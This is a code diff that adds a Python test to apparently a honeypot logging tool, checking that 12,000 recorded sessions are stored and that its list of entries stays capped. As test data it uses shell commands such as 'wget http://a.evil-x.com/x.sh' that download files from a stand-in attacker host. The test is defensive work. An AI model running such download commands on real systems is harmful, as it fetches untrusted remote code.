@@ -119,6 +119,16 @@ def test_a_client_that_asks_for_an_entry_is_a_finding(taking: Taking) -> None:
     assert finding.evidence["listed"][0]["lists"] == ["honeypot pot"]
 
 
+def test_thousands_of_hosts_and_sessions_at_once_are_taken(taking: Taking) -> None:
+    many = [
+        typed(f"wget http://h{number}.evil-x.com/", number / 100, session=str(number), dst_ip=f"192.0.2.{number % 250}")
+        for number in range(12_000)
+    ]
+    take(taking, *many)
+    assert len(entries(taking)) == tables.MAX_ENTRIES
+    assert taking.store.rows("SELECT count(*), sum(commands) FROM honeypot_sessions") == [(12_000, 12_000)]
+
+
 def test_the_list_outlives_a_restart(taking: Taking) -> None:
     take(taking, typed("wget http://a.evil-x.com/x.sh"))
     taking.restart()
